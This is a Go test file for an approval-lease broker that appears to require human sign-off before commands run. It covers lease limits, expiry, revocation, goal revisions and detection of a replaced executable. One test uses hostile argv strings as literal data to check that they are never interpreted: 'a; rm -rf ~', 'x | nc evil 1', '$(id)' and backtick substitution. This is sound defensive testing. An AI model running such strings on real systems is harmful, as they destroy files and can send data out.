package broker

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"warrant/broker/internal/journal"
	"warrant/wire"
)

func TestLeaseArgvMetacharactersStayLiteral(t *testing.T) {
	r := newRig(t)
	hostile := []string{"a; rm -rf ~", "x | nc evil 1", "$(id)", "`id`", "line1\nline2", "'\"", "*"}
	view, _ := r.approved(r.request(hostile...), 1)
	if len(view.Identity.Argv) != len(hostile) {
		t.Fatalf("argv recorded as %q", view.Identity.Argv)
	}
	for i := range hostile {
		if view.Identity.Argv[i] != hostile[i] {
			t.Fatalf("argv[%d] recorded as %q, want %q", i, view.Identity.Argv[i], hostile[i])
		}
	}
	r.wantAccepted(r.request(hostile...))
	if got := r.exec.launched[0].Argv; len(got) != len(hostile) || got[4] != "line1\nline2" {
		t.Fatalf("launched with argv %q", got)
	}
	// Each change of a metacharacter is a different command.
	for _, variant := range [][]string{
		{"a; rm -rf ~"},
		{"a;", "rm -rf ~", "x | nc evil 1", "$(id)", "`id`", "line1\nline2", "'\"", "*"},
		{"a; rm -rf ~", "x | nc evil 1", "$(id)", "`id`", "line1 line2", "'\"", "*"},
		{"a; rm -rf ~", "x || nc evil 1", "$(id)", "`id`", "line1\nline2", "'\"", "*"},
	} {
		v := r.wantApproval(r.request(variant...))
		if bytes.Equal(v.Fingerprint, view.Fingerprint) {
			t.Fatalf("argv %q has the fingerprint of %q", variant, hostile)
		}
	}
}

func TestLeaseExecutableReplacedAfterApproval(t *testing.T) {
	r := newRig(t)
	view, _ := r.approved(r.request(), 5)
	r.wantAccepted(r.request())
	// Same path, new content, swapped in by rename.
	tmp := r.tool + ".new"
	copyFile(t, "/bin/false", tmp)
	must(t, os.Rename(tmp, r.tool))
	v := r.wantApproval(r.request())
	if bytes.Equal(v.Identity.Executable.File.SHA256, view.Identity.Executable.File.SHA256) {
		t.Fatal("the replaced executable has the approved digest")
	}
	// Same path, same inode, content rewritten in place.
	r2 := newRig(t)
	_, l := r2.approved(r2.request(), 5)
	f, err := os.OpenFile(r2.tool, os.O_WRONLY, 0)
	must(t, err)
	_, err = f.WriteAt([]byte{0}, 100)
	must(t, err)
	must(t, f.Close())
	r2.wantApproval(r2.request())
	if got := r2.lease(l.ID).UsesLeft; got != 5 {
		t.Fatalf("lease uses left %d after a non-matching submit, want 5", got)
	}
}

func TestLeaseCwdDirectoryReplaced(t *testing.T) {
	r := newRig(t)
	view, l := r.approved(r.request(), 5)
	r.wantAccepted(r.request())
	sub := filepath.Join(r.workspace, "sub")
	must(t, os.RemoveAll(sub))
	must(t, os.Mkdir(sub, 0o755))
	// ext4 hands the freed inode number straight back, so (dev, ino,
	// mnt_id) may well be equal here; the lease must still not match.
	v := r.wantApproval(r.request())
	if v.ID == view.ID {
		t.Fatal("the approved request was offered again for a new directory")
	}
	if got := r.lease(l.ID).UsesLeft; got != 4 {
		t.Fatalf("uses left %d, want 4", got)
	}
}

func TestLeaseDenialLeavesNothingReusable(t *testing.T) {
	r := newRig(t)
	v := r.wantApproval(r.request("x"))
	if again := r.wantApproval(r.request("x")); again.ID != v.ID {
		t.Fatalf("a second submit made request %s instead of reusing pending %s", again.ID, v.ID)
	}
	must(t, r.cl.Deny(v.ID, "not today"))
	_, err := r.cl.Submit(r.workspace, r.request("x"))
	wantCode(t, err, wire.CodeApprovalDenied)
	next := r.wantApproval(r.request("x"))
	if next.ID == v.ID {
		t.Fatal("the denied request was offered again")
	}
	_, err = r.cl.Approve(v.ID, 1, time.Hour)
	wantCode(t, err, wire.CodeArgumentsInvalid)
	l, err := r.cl.List(wire.ListLeases, false)
	must(t, err)
	if len(l.Leases) != 0 {
		t.Fatalf("denial left leases %+v", l.Leases)
	}
}

func TestLeaseUsesAreLimited(t *testing.T) {
	r := newRig(t)
	_, l := r.approved(r.request(), 2)
	r.wantAccepted(r.request())
	r.wantAccepted(r.request())
	r.wantApproval(r.request())
	if got := r.lease(l.ID).UsesLeft; got != 0 {
		t.Fatalf("uses left %d, want 0", got)
	}
	acts, err := r.cl.List(wire.ListActions, false)
	must(t, err)
	if len(acts.Actions) != 2 || len(r.exec.launched) != 2 {
		t.Fatalf("%d actions recorded and %d launched, want 2", len(acts.Actions), len(r.exec.launched))
	}
}

func TestLeaseExpiry(t *testing.T) {
	r := newRig(t)
	_, l := r.approved(r.request(), 10)
	r.wantAccepted(r.request())
	r.clock.Advance(time.Hour - time.Second)
	r.wantAccepted(r.request())
	r.clock.Advance(time.Second)
	r.wantApproval(r.request())
	if got := r.lease(l.ID).UsesLeft; got != 8 {
		t.Fatalf("uses left %d, want 8", got)
	}
}

func TestLeaseRevocation(t *testing.T) {
	r := newRig(t)
	_, l := r.approved(r.request(), 10)
	r.wantAccepted(r.request())
	must(t, r.cl.Revoke(l.ID))
	r.wantApproval(r.request())
	wantCode(t, r.cl.Revoke(l.ID), wire.CodeArgumentsInvalid)
	if v := r.lease(l.ID); !v.Revoked || v.UsesLeft != 9 {
		t.Fatalf("revoked lease listed as %+v", v)
	}
}

func TestLeaseGoalRevisionChangeInvalidates(t *testing.T) {
	r := newRig(t)
	g, err := r.cl.CreateGoal("build the thing", "")
	must(t, err)
	req := r.request()
	req.Goal = g.Goal
	_, l := r.approved(req, 10)
	r.wantAccepted(req)
	g2, err := r.cl.ReviseGoal(g.Goal, "")
	must(t, err)
	if g2.Revision != 2 {
		t.Fatalf("revision %d after revise", g2.Revision)
	}
	v := r.wantApproval(req)
	if v.GoalRevision != 2 {
		t.Fatalf("new request under revision %d", v.GoalRevision)
	}
	// The old revision's request can no longer be approved either.
	if got := r.lease(l.ID).UsesLeft; got != 9 {
		t.Fatalf("old lease uses %d, want 9", got)
	}
}

func TestLeaseGoalPauseAndCancelInvalidate(t *testing.T) {
	r := newRig(t)
	g, err := r.cl.CreateGoal("g", "")
	must(t, err)
	req := r.request()
	req.Goal = g.Goal
	_, l := r.approved(req, 10)
	_, err = r.cl.SetGoalState(g.Goal, wire.GoalPaused)
	must(t, err)
	_, err = r.cl.Submit(r.workspace, req)
	wantCode(t, err, wire.CodeGoalInactive)
	_, err = r.cl.SetGoalState(g.Goal, wire.GoalActive)
	must(t, err)
	r.wantApproval(req) // resuming does not revive the lease
	if !r.lease(l.ID).Revoked {
		t.Fatal("pausing the goal did not revoke its lease")
	}
	_, err = r.cl.SetGoalState(g.Goal, wire.GoalCancelled)
	must(t, err)
	_, err = r.cl.SetGoalState(g.Goal, wire.GoalActive)
	wantCode(t, err, wire.CodeGoalInactive)
	_, err = r.cl.Submit(r.workspace, req)
	wantCode(t, err, wire.CodeGoalInactive)
}

func TestLeaseDifferentProfileDoesNotMatch(t *testing.T) {
	r := newRig(t)
	r.approved(r.request(), 10)
	req := r.request()
	req.Profile = wire.ProfileStandard
	r.wantApproval(req)
	req.Profile = wire.ProfileShort
	req.Cwd = "."
	r.wantApproval(req)
}

// TestCheckpointRechecksLease changes the lease or goal between the match
// and the checkpoint; the checkpoint transaction refuses with the code.
func TestCheckpointRechecksLease(t *testing.T) {
	ctx := context.Background()
	cases := []struct {
		name   string
		change func(r *rig, g journal.Goal, l *wire.LeaseView)
		code   wire.Code
	}{
		{"revoked", func(r *rig, _ journal.Goal, l *wire.LeaseView) { must(t, r.b.j.Revoke(ctx, l.ID)) }, wire.CodeLeaseRevoked},
		{"expired", func(r *rig, _ journal.Goal, _ *wire.LeaseView) { r.clock.Advance(2 * time.Hour) }, wire.CodeLeaseExpired},
		{"revised", func(r *rig, g journal.Goal, _ *wire.LeaseView) {
			_, err := r.b.j.ReviseGoal(ctx, g.ID, nil)
			must(t, err)
		}, wire.CodeGoalRevisionMismatch},
		{"paused", func(r *rig, g journal.Goal, _ *wire.LeaseView) {
			_, err := r.b.j.SetGoalState(ctx, g.ID, wire.GoalPaused)
			must(t, err)
		}, wire.CodeGoalInactive},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := newRig(t)
			view, lv := r.approved(r.request(), 1)
			g, err := r.b.j.Goal(ctx, view.Goal)
			must(t, err)
			l, err := r.b.j.MatchLease(ctx, g, r.resolved().Identity().Workspace, r.resolved().Fingerprint())
			if err != nil || l == nil {
				t.Fatalf("no match for the approved identity: %v", err)
			}
			c.change(r, g, lv)
			_, _, err = r.b.j.Checkpoint(ctx, l, "", "", &view.Identity, nil)
			wantCode(t, err, c.code)
			if v := r.lease(lv.ID); v.UsesLeft != 1 {
				t.Fatalf("a refused checkpoint consumed a use: %+v", v)
			}
		})
	}
	t.Run("exhausted", func(t *testing.T) {
		r := newRig(t)
		view, _ := r.approved(r.request(), 1)
		g, _ := r.b.j.Goal(ctx, view.Goal)
		l, _ := r.b.j.MatchLease(ctx, g, r.resolved().Identity().Workspace, r.resolved().Fingerprint())
		_, _, err := r.b.j.Checkpoint(ctx, l, "", "", &view.Identity, nil)
		must(t, err)
		_, _, err = r.b.j.Checkpoint(ctx, l, "", "", &view.Identity, nil)
		wantCode(t, err, wire.CodeLeaseExhausted)
	})
}

func TestNoExecutorRefusesWithoutConsuming(t *testing.T) {
	r := newRig(t, func(c *Config) { c.Executor = nil })
	_, l := r.approved(r.request(), 3)
	_, err := r.cl.Submit(r.workspace, r.request())
	wantCode(t, err, wire.CodeSandboxUnavailable)
	if got := r.lease(l.ID).UsesLeft; got != 3 {
		t.Fatalf("uses left %d, want 3", got)
	}
	acts, err := r.cl.List(wire.ListActions, false)
	must(t, err)
	if len(acts.Actions) != 0 {
		t.Fatalf("actions recorded without an executor: %+v", acts.Actions)
	}
}
